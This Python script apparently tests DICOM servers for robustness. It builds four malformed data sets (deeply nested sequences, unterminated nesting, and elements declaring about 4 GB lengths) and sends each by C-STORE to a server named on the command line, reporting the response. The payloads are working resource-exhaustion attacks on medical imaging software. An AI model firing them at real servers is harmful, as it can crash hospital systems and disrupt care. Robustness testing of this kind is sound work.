"""Data sets that are made to hurt, each by C-STORE; prints 'NAME 0xSTATUS', or 'NAME aborted'.
bombs.py HOST:PORT:TITLE"""
import struct
import sys

from pydicom.uid import ExplicitVRLittleEndian
from pynetdicom import AE
from raw import store

MR_IMAGE = "1.2.840.10008.5.1.4.1.1.4"
UNDEFINED = 0xFFFFFFFF
DEPTH = 2000


def element(group, number, vr, value):
    return struct.pack("<HH2sH", group, number, vr, len(value)) + value


def long_element(group, number, vr, length):
    return struct.pack("<HH2sHI", group, number, vr, 0, length)


def around(uid, before, after):
    """A data set that has what an index asks for, with something in two places."""
    head = element(8, 0x16, b"UI", MR_IMAGE.encode() + b"\0") + element(8, 0x18, b"UI", uid)
    names = element(0x10, 0x20, b"LO", b"BOMB")
    study = element(0x20, 0xD, b"UI", b"2.25") + element(0x20, 0xE, b"UI", b"2.26")
    return head + before + names + study + after


begin = long_element(8, 0x1140, b"SQ", UNDEFINED) + struct.pack("<HHI", 0xFFFE, 0xE000, UNDEFINED)
end = struct.pack("<HHIHHI", 0xFFFE, 0xE00D, 0, 0xFFFE, 0xE0DD, 0)
BOMBS = {
    "nested": around(b"2.25.91\0", begin * DEPTH + end * DEPTH, b""),
    "nested-without-end": around(b"2.25.92\0", begin * DEPTH, b""),
    "four-gigabytes-text": around(b"2.25.93\0", b"", long_element(0x21, 0x1010, b"UT", 0xFFFFFFF0)),
    "four-gigabytes-pixels": around(
        b"2.25.94\0", b"", long_element(0x7FE0, 0x10, b"OW", 0xF0000000) + b"\0" * 16
    ),
}

host, port, title = sys.argv[1].split(":")
for name, content in BOMBS.items():
    ae = AE("TESTER")
    ae.add_requested_context(MR_IMAGE, ExplicitVRLittleEndian)
    association = ae.associate(host, int(port), ae_title=title)
    uid = content[content.index(b"2.25.9") :][:7].decode()
    response = store(association, MR_IMAGE, uid, content)
    print(name, "aborted" if response is None else f"0x{response.Status:04X}", flush=True)
    if association.is_established:
        association.release()
